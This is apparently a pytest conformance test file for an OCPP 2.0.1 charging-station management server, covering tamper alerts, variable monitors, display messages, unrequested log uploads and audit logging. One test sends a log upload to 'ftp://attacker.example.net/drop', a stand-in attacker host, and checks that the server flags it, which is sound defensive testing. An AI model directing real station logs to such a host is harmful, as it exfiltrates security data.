"""OCPP 2.0.1 block N beyond the OCA cases (issue 17): a monitored door or tamper switch reaches the
tamper detector as the tamper SecurityEventNotification does; monitors set, reported and cleared
are stored; events are stored once; an upload nobody ordered is the exfiltration alert, as in 1.6.
Over real 2.0.1 WebSockets (the conformance suite's scriptable station), on SQLite and PostgreSQL."""

from __future__ import annotations

import asyncio
from collections.abc import AsyncIterator
from typing import Any

import httpx
import pytest_asyncio
from ocpp.v201 import call

from tests.conformance.conftest import Api, now_iso, wait_until
from tests.conformance_v201.conftest import connect
from tests.conftest import RunningServer, free_port, start_server
from voltlib.config import Settings
from voltlib.domain.monitoring import TAMPER, tamper_of

CS = "CS-MON-201"


@pytest_asyncio.fixture
async def server(database_url: str) -> AsyncIterator[RunningServer]:
    settings = Settings(database_url=database_url, port=free_port(), command_timeout=5.0,
                        ocpp_versions=["1.6", "2.0.1"])
    runner, running = await start_server(settings)
    try:
        yield running
    finally:
        await runner.cleanup()
        await asyncio.sleep(0)


@pytest_asyncio.fixture
async def api(server: RunningServer) -> AsyncIterator[Api]:
    async with httpx.AsyncClient(base_url=server.url, headers=server.api_headers(), timeout=20) as client:
        yield Api(server, client)


def event(event_id: int, component: str, variable: str, value: str, *, cleared: bool = False,
          timestamp: str | None = None) -> dict[str, Any]:
    return {"eventId": event_id, "timestamp": timestamp or now_iso(), "trigger": "Delta", "actualValue": value,
            "eventNotificationType": "HardWiredNotification", "cleared": cleared,
            "component": {"name": component}, "variable": {"name": variable}}


async def alerts(api: Api) -> list[dict[str, Any]]:
    await api.server.settled()
    return list(await api.get(f"/api/v1/security/alerts?charge_point_id={CS}"))


def test_which_monitored_variables_are_a_tamper() -> None:
    assert tamper_of("AccessBarrier", "Active", "true", cleared=False) == TAMPER
    assert tamper_of("Enclosure", "Problem", "True", cleared=False) == TAMPER
    assert tamper_of("ChargingStation", "Tamper", "1", cleared=False) == TAMPER
    assert tamper_of("AccessBarrier", "Active", "false", cleared=False) is None  # closed again
    assert tamper_of("AccessBarrier", "Active", "true", cleared=True) is None  # the alarm cleared
    assert tamper_of("ConnectorPlugRetentionLock", "Problem", "true", cleared=False) is None  # a fault, not a break-in


async def test_an_opened_enclosure_is_a_tamper_alert_and_quarantine_once(server: RunningServer, api: Api) -> None:
    await server.add_charge_point(CS)
    async with connect(server, CS) as cs:
        await cs.booted()
        stamp = now_iso()
        door = [event(1, "AccessBarrier", "Active", "true", timestamp=stamp),
                event(2, "EVSE", "AvailabilityState", "Available")]
        await cs.send(call.NotifyEvent(generated_at=now_iso(), seq_no=0, event_data=door))
        await cs.send(call.NotifyEvent(generated_at=now_iso(), seq_no=0, event_data=door))  # sent again
        stored = await api.get(f"/api/v1/charge-points/{CS}/events")
    assert sorted((e["event_id"], e["security"]) for e in stored) == [(1, TAMPER), (2, None)]  # once each
    events = [e for e in await api.security_events() if e["charge_point_id"] == CS
              and e["kind"] == f"charge_point:{TAMPER}"]
    assert len(events) == 1 and events[0]["severity"] == "critical"
    assert "AccessBarrier.Active=true" in events[0]["detail"]["techInfo"]
    tampers = [a for a in await alerts(api) if a["kind"] == "tamper_detected"]
    assert len(tampers) == 1
    detail = await api.charge_point(CS)
    assert detail["quarantined"] is True  # the same automatic response as the SecurityEventNotification


async def test_a_closed_door_or_a_cleared_alarm_raises_nothing(server: RunningServer, api: Api) -> None:
    await server.add_charge_point(CS)
    async with connect(server, CS) as cs:
        await cs.booted()
        await cs.send(call.NotifyEvent(generated_at=now_iso(), seq_no=0, event_data=[
            event(5, "AccessBarrier", "Active", "false"), event(6, "Enclosure", "Tamper", "true", cleared=True)]))
    assert not [a for a in await alerts(api) if a["kind"] == "tamper_detected"]
    assert len(await api.get(f"/api/v1/charge-points/{CS}/events")) == 2


async def test_monitors_set_reported_and_cleared_are_kept(server: RunningServer, api: Api) -> None:
    await server.add_charge_point(CS)
    async with connect(server, CS) as cs:
        await cs.booted()
        door = {"value": 1, "type": "Delta", "severity": 1, "component": {"name": "AccessBarrier"},
                "variable": {"name": "Active"}}
        row = await api.command(CS, "SetVariableMonitoring", {"setMonitoringData": [door]})
        assert row["response"]["setMonitoringResult"][0]["status"] == "Accepted"

        async def kept() -> bool:
            return bool(await api.get(f"/api/v1/charge-points/{CS}/monitors"))

        await wait_until(kept)
        [monitor] = await api.get(f"/api/v1/charge-points/{CS}/monitors")
        assert (monitor["monitor_id"], monitor["component"], monitor["variable"], monitor["type"]) == (
            1, "AccessBarrier", "Active", "Delta")
        for action, payload in (("SetMonitoringBase", {"monitoringBase": "All"}),
                                ("SetMonitoringLevel", {"severity": 4}),
                                ("GetMonitoringReport", {"requestId": 9, "monitoringCriteria": ["DeltaMonitoring"]})):
            assert (await api.command(CS, action, payload))["response"] == {"status": "Accepted"}
        await cs.send(call.NotifyMonitoringReport(request_id=9, seq_no=0, generated_at=now_iso(), tbc=False, monitor=[{
            "component": {"name": "EVSE", "evse": {"id": 1}}, "variable": {"name": "Power"},
            "variableMonitoring": [{"id": 7, "transaction": True, "value": 22000.0, "type": "UpperThreshold",
                                    "severity": 3}]}]))
        assert [m["monitor_id"] for m in await api.get(f"/api/v1/charge-points/{CS}/monitors")] == [1, 7]
        await api.command(CS, "ClearVariableMonitoring", {"id": [1]})

        async def cleared() -> bool:
            return len(await api.get(f"/api/v1/charge-points/{CS}/monitors")) == 1

        await wait_until(cleared)
        [kept] = await api.get(f"/api/v1/charge-points/{CS}/monitors")
    assert (kept["monitor_id"], kept["evse_id"], kept["value"], kept["transaction"], kept["request_id"]) == (
        7, 1, 22000.0, True, 9)


async def test_an_upload_nobody_ordered_is_the_exfiltration_alert(server: RunningServer, api: Api) -> None:
    await server.add_charge_point(CS)
    async with connect(server, CS) as cs:
        await cs.booted()
        await cs.send(call.LogStatusNotification(status="Uploading", request_id=3))
    assert "log_unrequested" in {a["kind"] for a in await alerts(api)}
    assert (await api.charge_point(CS))["log_status"] == "Uploading"


async def test_an_upload_location_outside_the_allowed_ones_is_flagged(server: RunningServer, api: Api) -> None:
    await server.add_charge_point(CS)
    async with connect(server, CS) as cs:
        await cs.booted()
        cs.replies["GetLog"] = {"status": "Accepted"}
        await api.command(CS, "GetLog", {"logType": "SecurityLog", "requestId": 4,
                                         "log": {"remoteLocation": "ftp://attacker.example.net/drop"}})
    flagged = [a for a in await alerts(api) if a["kind"] == "upload_location_not_allowed"]
    assert flagged, await alerts(api)


async def test_display_messages_set_reported_and_cleared_are_kept(server: RunningServer, api: Api) -> None:
    """Block O through the raw commands: SetDisplayMessage accepted is kept (set), the station's
    NotifyDisplayMessages after GetDisplayMessages is kept (report), ClearDisplayMessage removes."""
    await server.add_charge_point(CS)
    path = f"/api/v1/charge-points/{CS}/display-messages"
    async with connect(server, CS) as cs:
        await cs.booted()
        message = {"id": 4, "priority": "NormalCycle", "message": {"format": "UTF8", "content": "Bienvenue"}}
        assert (await api.command(CS, "SetDisplayMessage", {"message": message}))["response"] == {"status": "Accepted"}
        assert (await api.command(CS, "GetDisplayMessages", {"requestId": 8}))["response"] == {"status": "Accepted"}
        await cs.send(call.NotifyDisplayMessages(request_id=8, tbc=False, message_info=[{
            "id": 9, "priority": "AlwaysFront", "state": "Faulted",
            "message": {"format": "ASCII", "language": "en", "content": "Out of order"}}]))
        await api.server.settled()
        assert [(m["message_id"], m["source"], m["content"]) for m in await api.get(path)] == [
            (4, "set", "Bienvenue"), (9, "report", "Out of order")]
        await api.command(CS, "ClearDisplayMessage", {"id": 4})

        async def cleared() -> bool:  # once voltlib has the answer (CommandFinished)
            return [m["message_id"] for m in await api.get(path)] == [9]

        await wait_until(cleared)


async def test_a_raw_customer_information_command_is_audited_too(server: RunningServer, api: Api) -> None:
    """The member route is not the only way: the raw command is in the audit log before it is sent."""
    await server.add_charge_point(CS)
    async with connect(server, CS) as cs:
        await cs.booted()
        await api.command(CS, "CustomerInformation", {"requestId": 31, "report": False, "clear": True,
                                                      "customerIdentifier": "someone"})
    [entry] = [e for e in await api.get("/api/v1/security/audit") if e["action"] == "customer_information.requested"]
    assert entry["target"] == f"cp_id={CS}" and entry["detail"] == {"raw": True, "requestId": 31, "report": False,
                                                                     "clear": True}
